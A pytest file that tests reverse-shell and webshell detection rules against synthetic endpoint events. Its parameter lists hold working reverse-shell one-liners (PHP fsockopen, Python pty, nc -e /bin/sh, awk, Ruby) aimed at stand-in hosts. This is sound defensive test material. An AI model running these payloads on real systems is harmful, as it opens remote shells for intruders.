"""The five seed documents as tests: every example they give, and events that just miss each condition."""

from __future__ import annotations

from typing import Any

import pytest

from conftest import (
    PHP_FSOCKOPEN,
    PYTHON_PTY,
    REVERSE_SHELL_SEQUENCE,
    SHELL_VIA_WEB_SERVER,
    WEB_SERVER_CHILD,
    WEBSHELL_RECON,
    Runner,
    rule_ids,
)


def proc(**over: Any) -> dict[str, Any]:
    """An Elastic Defend process start on Linux; keyword arguments replace dotted fields."""
    ev: dict[str, Any] = {
        "@timestamp": "2026-05-01T10:00:00.000Z",
        "event": {"category": ["process"], "type": ["start"], "action": "exec", "kind": "event"},
        "host": {"id": "h1", "os": {"type": "linux"}},
        "process": {"entity_id": "e1", "pid": 4242, "name": "ls", "executable": "/usr/bin/ls",
                    "args": ["ls"], "args_count": 1, "command_line": "ls", "working_directory": "/root",
                    "parent": {"name": "bash", "executable": "/bin/bash", "pid": 4000}},
        "user": {"name": "root", "id": "0"},
    }
    for dotted, value in over.items():
        _set(ev, dotted.replace("__", "."), value)
    return ev


def net(**over: Any) -> dict[str, Any]:
    """An Elastic Defend connection attempt by process e1 on host h1."""
    ev: dict[str, Any] = {
        "@timestamp": "2026-05-01T10:00:00.500Z",
        "event": {"category": ["network"], "type": ["start"], "action": "connection_attempted", "kind": "event"},
        "host": {"id": "h1", "os": {"type": "linux"}},
        "process": {"entity_id": "e1", "pid": 4242, "name": "nc"},
        "destination": {"ip": "10.1.2.3", "port": 4444},
    }
    for dotted, value in over.items():
        _set(ev, dotted.replace("__", "."), value)
    return ev


def _set(ev: dict[str, Any], dotted: str, value: Any) -> None:
    *path, last = dotted.split(".")
    cur = ev
    for p in path:
        cur = cur.setdefault(p, {})
    if value is _DROP:
        cur.pop(last, None)
    else:
        cur[last] = value


_DROP = object()


def cmd(command_line: str, name: str = "php") -> dict[str, Any]:
    return proc(process__name=name, process__command_line=command_line)


class TestSeed000PhpFsockopen:
    @pytest.mark.parametrize("line", [
        "php -r '$s=fsockopen(\"10.10.10.10\",9001);'",
        "php -r \"fsockopen('192.168.1.5',4444);\"",
        "php -r '$sock = fsockopen(\"8.8.8.8\",1337);'",
        "php -r '$sock=fsockopen(\"10.10.10.10\",9001);$proc=proc_open(\"sh\", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);'",
        "php -r '$sock=fsockopen(\"10.10.10.10\",9001);passthru(\"sh <&3 >&3 2>&3\");'",
    ])
    def test_triggering_commands(self, run: Runner, line: str) -> None:
        """Each of the seed's five triggering commands is tagged 100103, level 15, with its MITRE ids."""
        (doc,) = run([cmd(line)])
        assert rule_ids(doc) == [PHP_FSOCKOPEN]
        assert doc["event"]["severity"] == 4 and doc["event"]["risk_score"] == 99
        assert doc["threat"]["technique"]["id"] == ["T1059.004", "T1059.006", "T1219", "T1105"]

    @pytest.mark.parametrize("line", ["php script.php", "php -i", "php -r 'echo \"hello world\";'", "php -r '$a=1+1;'"])
    def test_non_triggering_commands(self, run: Runner, line: str) -> None:
        """The seed's four non-triggering commands pass through untagged."""
        assert rule_ids(run([cmd(line)])[0]) == []

    @pytest.mark.parametrize("line", [
        "php -r '$s=fsockopen(\"attacker.example\",9001);'",  # a host name, not an IPv4 address
        "php -r '$s=fsockopen(\"10.10.10.10\");'",  # no port
        "php -r '$s=fsockopen(\"10.10.10.10\",900123);'",  # port longer than 5 digits
        "PHP -R '$s=fsockopen(\"10.10.10.10\",9001);'",  # the regex is case-sensitive
    ])
    def test_just_missing(self, run: Runner, line: str) -> None:
        """Lines that miss one part of the regex are not tagged."""
        assert rule_ids(run([cmd(line)])[0]) == []


TESTED_PAYLOAD = """export RHOST="10.10.10.10";export RPORT=9001;
python -c 'import socket,os,pty;
s=socket.socket();
s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));
[os.dup2(s.fileno(),fd) for fd in (0,1,2)];
pty.spawn("sh")'"""


class TestSeed001PythonPty:
    def test_tested_payload(self, run: Runner) -> None:
        """The seed's multi-line tested payload is tagged 100620 (level 12, high)."""
        (doc,) = run([cmd(TESTED_PAYLOAD, "python")])
        assert rule_ids(doc) == [PYTHON_PTY]
        assert doc["event"]["severity"] == 3 and doc["threat"]["technique"]["id"] == ["T1059.006", "T1105"]

    @pytest.mark.parametrize("line", [
        "python -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
        "python3 -c 'import pty,os,socket;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
        "python3 -c 'import os;import pty;import socket;s=socket.socket();s.connect((os.getenv(\"RHOST\"),int(os.getenv(\"RPORT\"))));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
        "python -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"sh\")'",
        "python -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);pty.spawn(\"bash\")'",
        "python -c \"import socket,os,pty;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);pty.spawn('bash')\"",
        "python -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2 ( s.fileno(),0);pty.spawn ( \"sh\" )'",
        "PYTHON3 -c 'import SOCKET,os,pty;s=SOCKET.SOCKET();s.CONNECT((\"h\",1));OS.DUP2(s.fileno(),0);PTY.SPAWN(\"SH\")'",
    ])
    def test_variants(self, run: Runner, line: str) -> None:
        """python and python3, import orders, os.getenv, loop or explicit dup2, sh or bash, any quotes, any case."""
        assert rule_ids(run([cmd(line, "python3")])[0]) == [PYTHON_PTY]

    @pytest.mark.parametrize("line", [
        "python -c 'import socket,os;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0)'",  # no pty.spawn
        "python -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"zsh\")'",
        "python -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));pty.spawn(\"sh\")'",  # no dup2
        "pythonista -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
        "python -c 'import os,pty;s=mysocket.socketx();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
        "python -c 'pty.spawn(\"sh\");import socket;s=socket.socket();s.connect((\"h\",1));os.dup2(1,2)'",  # wrong order
    ])
    def test_just_missing(self, run: Runner, line: str) -> None:
        """Each missing primitive, a word boundary that fails, or the wrong order: no tag."""
        assert rule_ids(run([cmd(line, "python3")])[0]) == []


SHELL_STARTS = {
    "python": ("python3", ["python3", "-c", "import socket,subprocess,os,pty;pty.spawn('/bin/sh')"]),
    "python_subprocess": ("python", ["python", "-c", "import socket,subprocess;subprocess.call(['/bin/sh','-i'])"]),
    "perl": ("perl", ["perl", "-e", 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec("/bin/sh -i");']),
    "perl_system": ("perl", ["perl", "-e", 'use Socket;socket(S,2,1,6);system("/bin/sh")']),
    "ruby": ("ruby", ["ruby", "-rsocket", "-e", 'f=TCPSocket.open("10.1.2.3",4444).to_i;exec sprintf("/bin/sh")']),
    "ruby_new": ("ruby", ["ruby", "-e", 'c=TCPSocket.new("10.1.2.3",4444)']),
    "lua": ("lua5.3", ["lua5.3", "-e", "local s=require('socket');local t=socket.tcp();t:connect('h',1);io.popen('sh')"]),
    "php": ("php", ["php", "-r", '$sock=fsockopen("10.1.2.3",4444);exec("/bin/sh -i <&3 >&3 2>&3");']),
    "awk": ("awk", ["awk", 'BEGIN {s = "/inet/tcp/0/10.1.2.3/4444"; while(1) {s |& getline c; print c |& s}}']),
    "openssl": ("openssl", ["openssl", "s_client", "-quiet", "-connect", "10.1.2.3:4444"]),
    "nc": ("nc", ["nc", "10.1.2.3", "4444", "-e", "/bin/sh"]),
    "telnet": ("telnet", ["telnet", "10.1.2.3", "4444"]),
}


def shell_start(kind: str, **over: Any) -> dict[str, Any]:
    name, args = SHELL_STARTS[kind]
    fields: dict[str, Any] = {"process__name": name, "process__args": args, "process__args_count": len(args),
                              "process__command_line": " ".join(args)}
    fields.update(over)
    return proc(**fields)


class TestSeed002Sequence:
    @pytest.mark.parametrize("kind", sorted(SHELL_STARTS))
    def test_each_branch_then_connection_fires_on_the_connection(self, run: Runner, kind: str) -> None:
        """Each suspicious start, then a connection by the same process within 1 s: the connection is tagged."""
        first = shell_start(kind)
        a, b = run([first, net(process__name=first["process"]["name"])])
        assert rule_ids(a) == [] and rule_ids(b) == [REVERSE_SHELL_SEQUENCE]
        (seq,) = b["shellsieve"]["sequence"]
        assert seq["rule.id"] == REVERSE_SHELL_SEQUENCE
        assert seq["first"]["@timestamp"] == first["@timestamp"]
        assert seq["first"]["process.command_line"] == first["process"]["command_line"]
        assert b["event"]["risk_score"] == 47 and b["threat"]["tactic"]["id"] == ["TA0002"]

    def fires(self, run: Runner, first: dict[str, Any], second: dict[str, Any]) -> bool:
        out = run([first, second])
        # Only the connection completes the sequence (the start may trip other rules: nc under php-fpm).
        assert REVERSE_SHELL_SEQUENCE not in rule_ids(out[0])
        return REVERSE_SHELL_SEQUENCE in rule_ids(out[1])

    @pytest.mark.parametrize(("parent", "hit"), [
        ("bash", True), ("dash", True), ("sh", True), ("zsh", True), ("fish", True), ("python3.11", True),
        ("php-fpm", True), ("perl", True), ("lua5.1", True), ("awk", True), ("BASH", True),
        ("systemd", False), ("sshd", False), ("perl5", False), ("gawk", False),  # perl, awk: exact
    ])
    def test_parent_name_list(self, run: Runner, parent: str, hit: bool) -> None:
        """The parent must be in the list (`:` ignores case; python*, php*, lua* are wildcards)."""
        assert self.fires(run, shell_start("nc", process__parent__name=parent), net()) is hit

    @pytest.mark.parametrize(("args", "hit"), [
        (["nc", "10.1.2.3", "4444"], True), (["nc", "-z", "10.1.2.3", "4444"], False),
        (["nc", "10.1.2.3"], False), (["ncat", "-e", "/bin/sh", "10.1.2.3"], True),
    ])
    def test_nc_args(self, run: Runner, args: list[str], hit: bool) -> None:
        """nc needs at least 3 args and no `-z` (port scan)."""
        name = args[0]
        first = proc(process__name=name, process__args=args, process__args_count=len(args))
        assert self.fires(run, first, net(process__name=name)) is hit

    def test_telnet_needs_three_args(self, run: Runner) -> None:
        """telnet with two args (no port) is not enough."""
        first = proc(process__name="telnet", process__args=["telnet", "h"], process__args_count=2)
        assert not self.fires(run, first, net(process__name="telnet"))

    @pytest.mark.parametrize(("ip", "hit"), [
        ("10.1.2.3", True), ("93.184.216.34", True), ("2001:db8::1", True), ("127.0.0.1", False),
        ("127.8.9.10", False), ("169.254.1.1", False), ("224.0.0.5", False), ("239.1.1.1", False), ("::1", False),
    ])
    def test_destination_ranges(self, run: Runner, ip: str, hit: bool) -> None:
        """Loopback, link-local, multicast and ::1 destinations are excluded."""
        assert self.fires(run, shell_start("nc"), net(destination__ip=ip)) is hit

    def test_no_destination_ip(self, run: Runner) -> None:
        """A connection event without destination.ip does not complete the sequence."""
        assert not self.fires(run, shell_start("nc"), net(destination=_DROP))

    @pytest.mark.parametrize(("ts", "hit"), [
        ("2026-05-01T10:00:00.999Z", True), ("2026-05-01T10:00:01.000Z", True),
        ("2026-05-01T10:00:01.500Z", False), ("2026-05-01T10:05:00.000Z", False),
    ])
    def test_maxspan(self, run: Runner, ts: str, hit: bool) -> None:
        """The connection must come within 1 s of the start, on event time (inclusive)."""
        assert self.fires(run, shell_start("nc"), net(**{"@timestamp": ts})) is hit

    @pytest.mark.parametrize("over", [{"process__entity_id": "e2"}, {"host__id": "h2"}])
    def test_other_process_or_host(self, run: Runner, over: dict[str, Any]) -> None:
        """Another process.entity_id or host.id does not join."""
        assert not self.fires(run, shell_start("nc"), net(**over))

    def test_connection_before_start(self, run: Runner) -> None:
        """The network event first, then the process start: no sequence."""
        out = run([net(), shell_start("nc")])
        assert rule_ids(out[0]) == rule_ids(out[1]) == []

    @pytest.mark.parametrize(("over", "hit"), [
        ({"event__action": "connection_accepted"}, True), ({"event__action": "disconnect_received"}, False),
        ({"host__os__type": "windows"}, False), ({"process__name": "curl"}, False),
        ({"process__name": "Python3"}, True),
    ])
    def test_network_step_conditions(self, run: Runner, over: dict[str, Any], hit: bool) -> None:
        """The network step's action list, OS and process-name list (`:` ignores case)."""
        assert self.fires(run, shell_start("nc"), net(**over)) is hit

    @pytest.mark.parametrize(("over", "hit"), [
        ({"event__action": "fork"}, True), ({"event__action": "end"}, False),
        ({"host__os__type": "macos"}, False), ({"event__type": ["end"]}, False),
    ])
    def test_process_step_conditions(self, run: Runner, over: dict[str, Any], hit: bool) -> None:
        """The process step wants a Linux exec or fork start."""
        assert self.fires(run, shell_start("nc", **over), net()) is hit

    def test_dash_c_is_case_insensitive(self, run: Runner) -> None:
        """`process.args : "-c"` ignores case, so "-C" also counts."""
        first = shell_start("python", process__args=["python3", "-C", "import pty;pty.spawn('/bin/sh')"])
        assert self.fires(run, first, net(process__name="python3"))

    def test_python_without_pty_or_subprocess(self, run: Runner) -> None:
        """python -c without import..pty..spawn or import..subprocess..call does not start a sequence."""
        first = shell_start("python", process__args=["python3", "-c", "print(1)"])
        assert not self.fires(run, first, net(process__name="python3"))


class TestSeed003ShellViaWebServer:
    @pytest.mark.parametrize("name", ["bash", "dash", "ash", "zsh"])
    @pytest.mark.parametrize("parent", ["apache", "nginx", "www", "apache2", "httpd", "www-data"])
    def test_shell_under_web_server(self, run: Runner, name: str, parent: str) -> None:
        """Each shell under each web-server parent is tagged (KQL rule)."""
        ev = proc(process__name=name, process__executable=f"/bin/{name}", process__parent__name=parent)
        assert SHELL_VIA_WEB_SERVER in rule_ids(run([ev])[0])

    @pytest.mark.parametrize(("over", "hit"), [
        ({"event__type": ["process_started"]}, True), ({"event__type": ["end"]}, False),
        ({"process__parent__name": "sshd"}, False), ({"process__name": "Bash"}, False),
        ({"process__parent__name": "Nginx"}, False), ({"host__os__type": "windows"}, False),
        ({"event__category": ["network"]}, False), ({"process__name": "python3"}, False),
        ({"process__name": "python*"}, True),
    ])
    def test_just_missing(self, run: Runner, over: dict[str, Any], hit: bool) -> None:
        """KQL on keyword fields is exact and case-sensitive; quoted "python*" is a literal phrase, not a wildcard."""
        fields = {"process__name": "bash", "process__parent__name": "nginx", **over}
        assert (SHELL_VIA_WEB_SERVER in rule_ids(run([proc(**fields)])[0])) is hit


def web_child(**over: Any) -> dict[str, Any]:
    """A child of nginx that the EQL rule flags (whoami), overridable."""
    fields: dict[str, Any] = {"process__name": "whoami", "process__executable": "/usr/bin/whoami",
                              "process__parent__name": "nginx", "process__parent__executable": "/usr/sbin/nginx"}
    fields.update(over)
    return proc(**fields)


class TestSeed003SuspiciousChild:
    def tagged(self, run: Runner, ev: dict[str, Any]) -> bool:
        return WEB_SERVER_CHILD in rule_ids(run([ev])[0])

    @pytest.mark.parametrize(("parent", "hit"), [
        ("nginx", True), ("apache2", True), ("php-fpm7.4", True), ("gunicorn", True), ("catalina.sh", True),
        ("lswsctrl", True), ("Nginx", False), ("sshd", False), ("php-fpm", True), ("xphp-fpm", False),
    ])
    def test_parent_names_like(self, run: Runner, parent: str, hit: bool) -> None:
        """`like` is case-sensitive; php-fpm* is a wildcard."""
        assert self.tagged(run, web_child(process__parent__name=parent)) is hit

    @pytest.mark.parametrize(("user", "hit"), [("www-data", True), ("apache", True), ("tomcat9", True),
                                               ("WWW-DATA", False), ("deploy", False)])
    def test_user_names(self, run: Runner, user: str, hit: bool) -> None:
        """A web user with a non-web parent is enough; `in` is case-sensitive."""
        assert self.tagged(run, web_child(process__parent__name="bash", user__name=user)) is hit

    @pytest.mark.parametrize(("uid", "hit"), [("33", True), ("48", True), ("498", True), ("34", False),
                                              ("0", False)])
    def test_user_ids(self, run: Runner, uid: str, hit: bool) -> None:
        """uids 33, 48 and 498 (as ECS keyword strings) with a non-web parent."""
        assert self.tagged(run, web_child(process__parent__name="bash", user__id=uid)) is hit

    @pytest.mark.parametrize(("cwd", "hit"), [("/u01/app", True), ("/u02/x", True), ("/opt/app", False),
                                              ("/u001/x", False), (_DROP, False)])
    def test_java_working_directory(self, run: Runner, cwd: Any, hit: bool) -> None:
        """java with working directory /u0?/* counts; `?` is one character; the field may be absent."""
        ev = web_child(process__parent__name="bash", process__name="java", process__executable="/tmp/java",
                       process__working_directory=cwd)
        assert self.tagged(run, ev) is hit

    def test_parent_executable_required(self, run: Runner) -> None:
        """Without process.parent.executable the rule does not fire."""
        assert not self.tagged(run, web_child(process__parent__executable=_DROP))

    @pytest.mark.parametrize(("exe", "name", "hit"), [
        ("/tmp/x", "x", True), ("/dev/shm/x", "x", True), ("/var/www/html/x", "x", True), ("./x", "x", True),
        ("/home/u/x", "x", True), ("/usr/bin/ls", "ls", False), ("/usr/bin/.hidden", ".hidden", True),
        ("/usr/bin/p", "payload.ELF", True), ("/usr/bin/x.sh", "x.sh", True), ("/usr/bin/whoami", "WHOAMI", True),
        ("/usr/bin/curl", "curl", True), ("/usr/bin/x", "x.lua5", True), ("/usr/bin/t", "tmp", False),
    ])
    def test_executable_and_name(self, run: Runner, exe: str, name: str, hit: bool) -> None:
        """Executable path prefixes (like) or names and patterns (like~, case-insensitive)."""
        assert self.tagged(run, web_child(process__executable=exe, process__name=name)) is hit

    def test_linux_start_only(self, run: Runner) -> None:
        """Only Linux process starts."""
        assert not self.tagged(run, web_child(host__os__type="windows"))
        assert not self.tagged(run, web_child(event__type=["end"]))


def win(parent: str, command_line: str) -> dict[str, Any]:
    """A Sysmon process creation as ECS (ParentImage -> process.parent.executable, CommandLine -> command_line)."""
    return {"event": {"category": ["process"], "type": ["start"], "code": "1"},
            "host": {"os": {"type": "windows"}},
            "process": {"executable": "C:\\Windows\\System32\\cmd.exe", "command_line": command_line,
                        "parent": {"executable": parent}}}


class TestSeed004WebshellRecon:
    @pytest.mark.parametrize("parent", [
        "C:\\Program Files\\Caddy\\caddy.exe", "C:\\Apache24\\bin\\httpd.exe", "C:\\nginx\\nginx.exe",
        "C:\\php\\php-cgi.exe", "C:\\Windows\\System32\\inetsrv\\w3wp.exe", "C:\\Tomcat\\ws_tomcatservice.exe",
        "C:\\WINDOWS\\SYSTEM32\\INETSRV\\W3WP.EXE",
    ])
    @pytest.mark.parametrize("recon", ["perl --help", "perl -h", "python --help", "python -h", "python3 --help",
                                       "python3 -h", "wget --help"])
    def test_web_server_parent_and_recon(self, run: Runner, parent: str, recon: str) -> None:
        """Each web-server parent image with each recon command is tagged (Sigma, level high)."""
        (doc,) = run([win(parent, f"cmd.exe /c {recon}")])
        assert rule_ids(doc) == [WEBSHELL_RECON]
        assert doc["event"]["severity"] == 3 and doc["threat"]["technique"]["id"] == ["T1505.003"]

    @pytest.mark.parametrize(("parent", "command_line", "hit"), [
        ("C:\\apache-tomcat-9\\bin\\java.exe", "cmd /c python -h", True),  # tomcat1: -tomcat- in path
        ("C:\\Program Files\\tomcat\\bin\\javaw.exe", "cmd /c wget --help", True),  # tomcat1: \tomcat
        ("C:\\Java\\bin\\java.exe", "cmd /c perl -h -DCATALINA_HOME=C:\\x", True),  # tomcat2: CATALINA_HOME
        ("C:\\Java\\bin\\java.exe", "java -cp catalina.jar && perl --help", True),  # tomcat2: catalina.jar
        ("C:\\Java\\bin\\java.exe", "cmd /c perl -h", False),  # java without tomcat
        ("C:\\Windows\\explorer.exe", "cmd /c perl --help", False),  # not a web server
        ("C:\\inetpub\\w3wp.exe", "cmd /c whoami", False),  # web server, no recon
        ("C:\\inetpub\\w3wp.exe.bak", "cmd /c perl -h", False),  # endswith
    ])
    def test_selections(self, run: Runner, parent: str, command_line: str, hit: bool) -> None:
        """1 of the three web-server selections and the recon selection."""
        assert (rule_ids(run([win(parent, command_line)])[0]) == [WEBSHELL_RECON]) is hit


class TestPassThrough:
    def test_order_and_identity(self, run: Runner) -> None:
        """A mixed stream comes back in order; events without hits are unchanged."""
        events = [proc(), cmd("php -r '$s=fsockopen(\"1.2.3.4\",80);'"), proc(process__name="cat"), net()]
        out = run(events)
        assert [rule_ids(d) for d in out] == [[], [PHP_FSOCKOPEN], [], []]
        assert out[0] == events[0] and out[2] == events[2] and out[3] == events[3]
